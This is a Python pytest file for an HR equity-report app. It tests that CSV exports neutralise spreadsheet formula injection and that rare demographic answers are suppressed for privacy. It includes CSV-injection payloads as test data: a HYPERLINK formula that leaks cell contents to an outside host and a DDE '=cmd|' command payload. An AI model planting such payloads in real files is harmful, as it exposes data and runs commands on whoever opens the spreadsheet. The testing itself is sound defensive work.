"""CSV exports can never carry a spreadsheet formula, and a self-described answer held by fewer
than the minimum group size is never printed (it would name the person who gave it)."""

import csv
import io

import pytest

from accounts.csv_safe import formula_safe
from program.reports.suppression import ANOTHER_DESCRIPTION, fold_rare_labels
from tests import factories

HOSTILE_DEPARTMENT = '=HYPERLINK("http://x?"&A1,"open")'
HOSTILE_GENDER = "=cmd|' /C calc'!A0"
HOSTILE_ETHNICITY = "@SUM(1+1)"


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\tx", "\rx",
                                  HOSTILE_DEPARTMENT, HOSTILE_GENDER, HOSTILE_ETHNICITY])
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(cell):
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize(("cell", "written"), [("-0.0500", "-0.0500"), (-3, "-3"), (12, "12"),
                                               ("+4", "+4"), (None, ""), ("Sales", "Sales")])
def test_numbers_and_plain_text_are_written_unchanged(cell, written):
    assert formula_safe(cell) == written


def test_rare_answers_fold_into_one_row_that_keeps_the_totals():
    rows = [{"key": "Woman", "people": 6, "mentored": 2}, {"key": "Man", "people": 5,
                                                           "mentored": 1},
            {"key": "Agender", "people": 1, "mentored": 1}, {"key": "Two-spirit", "people": 2,
                                                             "mentored": 0}]
    folded = fold_rare_labels(rows, 5)
    assert [row["key"] for row in folded] == ["Woman", "Man", ANOTHER_DESCRIPTION]
    assert folded[-1] == {"key": ANOTHER_DESCRIPTION, "people": 3, "mentored": 1}
    assert fold_rare_labels(rows[:2], 5) == rows[:2]


@pytest.fixture
def hostile_organisation(db, settings):
    settings.REPORT_MIN_GROUP_SIZE = 3
    department = factories.DepartmentFactory(name=HOSTILE_DEPARTMENT)
    for _ in range(4):
        factories.PersonFactory(department=department, gender="Woman", ethnicity="Asian")
    for _ in range(4):
        factories.PersonFactory(department=department, gender="Man", ethnicity="White")
    factories.PersonFactory(department=department, gender=HOSTILE_GENDER,
                            ethnicity=HOSTILE_ETHNICITY)


@pytest.mark.parametrize("slug", ["by-department", "by-level-band", "by-gender", "by-ethnicity"])
def test_every_cell_of_every_equity_export_is_formula_safe(hostile_organisation, hana, login,
                                                          slug):
    response = login(hana).get(f"/hr/equity/export/{slug}.csv")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
             for cell in row]
    assert cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())]
    if slug == "by-department":
        assert "'" + HOSTILE_DEPARTMENT in cells


@pytest.mark.parametrize("slug", ["by-gender", "by-ethnicity"])
def test_an_answer_only_one_person_gave_is_not_printed(hostile_organisation, hana, login, slug):
    client = login(hana)
    page = client.get("/hr/equity/").content.decode()
    export = client.get(f"/hr/equity/export/{slug}.csv").content.decode("utf-8-sig")
    for text in (page, export):
        assert "cmd|" not in text and "SUM(1+1)" not in text
    assert ANOTHER_DESCRIPTION in export
